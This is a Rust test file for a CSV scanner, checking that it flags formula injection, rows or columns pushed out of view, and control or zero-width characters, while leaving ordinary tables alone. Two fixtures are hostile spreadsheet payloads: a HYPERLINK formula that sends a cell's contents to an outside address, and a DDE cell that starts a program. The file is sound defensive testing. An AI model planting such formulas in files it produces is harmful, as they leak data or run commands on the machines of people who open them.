//! Tables of text: what runs, and what stands where nobody looks.

use super::check;

#[test]
fn tables_that_hold_more_are_found() {
    let head = "Service,Requests\nHousing,12\nParks,7\n";
    let rows: &[(&str, String, &[&str])] = &[
        (
            "a formula",
            format!("{head}\"=HYPERLINK(\"\"http://10.0.0.9/?d=\"\"&B2)\",1\n"),
            &["csv.formula_injection"],
        ),
        ("a program to start", format!("{head}+cmd|' /C calc'!A0,1\n"), &["csv.formula_injection"]),
        ("rows far below", format!("{head}{}Orla Quennell,12\n", "\n".repeat(60)), &["csv.far_rows"]),
        (
            "rows far below rows of commas",
            format!("{head}{}Orla Quennell,12\n", ",\n".repeat(60)),
            &["csv.far_rows"],
        ),
        (
            "a column far to the right",
            format!("Service,Requests\nHousing,12{}Orla Quennell\nParks,7\n", ",".repeat(40)),
            &["csv.far_columns"],
        ),
        (
            "words after many spaces",
            format!("{head}Roads{}Orla Quennell,1\n", " ".repeat(200)),
            &["csv.far_columns"],
        ),
        (
            "a byte that ends the file for some",
            format!("{head}\u{1a}Orla Quennell,1\n"),
            &["csv.control_bytes"],
        ),
        ("marks that turn the line", format!("{head}\u{202e}Orla Quennell,1\n"), &["csv.control_bytes"]),
        ("signs of no width", format!("{head}Roads\u{200b}\u{200b}works,1\n"), &["csv.control_bytes"]),
        (
            "negative numbers and telephone numbers",
            format!("{head}Roads,-5.00\nHelp desk,+44 7700 900123\nFine,-£20\n"),
            &[],
        ),
        ("a blank line between tables", format!("{head}\n\nTeam,Posts\nRoads,4\n"), &[]),
        (
            "many columns with a head each",
            (0..80).map(|n| format!("c{n}")).collect::<Vec<_>>().join(",") + "\n" + &"1,".repeat(79) + "1\n",
            &[],
        ),
        ("semicolons and a mark", format!("\u{feff}{}", head.replace(',', ";")), &[]),
        ("a cell of several lines", format!("{head}\"Roads\n\nand paths\",1\n"), &[]),
        ("the end that DOS wrote", format!("{head}\u{1a}"), &[]),
    ];
    for (what, text, expected) in rows {
        check("a.csv", what, text.as_bytes(), expected);
    }
    check("a.csv", "a zero", b"a,b\n1,\x00Orla\n2,3\n", &["csv.control_bytes"]);
    check(
        "a.csv",
        "text as UTF-16",
        &"a,b\n1,2\n".encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>(),
        &[],
    );
    check("a.tsv", "tabs", head.replace(',', "\t").as_bytes(), &[]);
}
